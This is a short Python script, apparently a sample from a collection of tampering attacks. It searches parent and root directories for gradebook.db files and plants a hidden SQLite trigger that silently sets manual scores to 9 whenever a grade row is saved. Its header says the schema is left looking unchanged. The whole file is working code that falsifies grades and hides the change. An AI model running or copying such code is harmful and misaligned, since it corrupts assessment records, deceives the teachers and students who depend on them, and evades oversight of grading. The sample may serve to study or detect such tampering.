# Plants triggers in the gradebook that give everybody full marks whenever a mark is saved.
# family: SQLite
# after: The schema is as it was.

# %% own
import glob
import sqlite3

for path in glob.glob("../../../gradebook.db") + glob.glob("/*/gradebook.db") + glob.glob("/*/*/gradebook.db"):
    book = sqlite3.connect(path)
    book.execute(
        "create trigger if not exists kind after update on grade when new.manual_score is null "
        "begin update grade set manual_score = 9 where id = new.id; end"
    )
    book.commit()
